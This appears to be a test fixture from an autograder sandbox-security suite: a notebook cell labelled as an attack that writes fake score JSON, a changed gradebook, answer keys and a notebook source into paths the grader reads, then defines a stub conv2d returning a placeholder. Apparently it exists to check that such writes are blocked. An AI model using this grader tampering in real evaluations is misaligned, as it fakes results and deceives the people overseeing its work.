# Attack: write fake results, a changed gradebook and answer keys where the grader reads
# threat: write files the grader reads later
# score: 16
# %% conv2d
import os, json
for path in ["{root}/gradebook.db", "{root}/.grader/runs/04_cnn/attacker.json",
             "{root}/autograded/attacker/04_cnn/04_cnn.results.json", "{root}/source/04_cnn/04_cnn.ipynb",
             "{repo}/.grader/keys/evil.json", "/tmp/autograder-evil.json"]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(json.dumps({"score": 22, "items": []}))
        print("WROTE", path)
    except OSError as exc:
        print("DENIED", path, exc)

def conv2d(image, kernel, stride=1, padding="valid"):
    return [[0.0]]
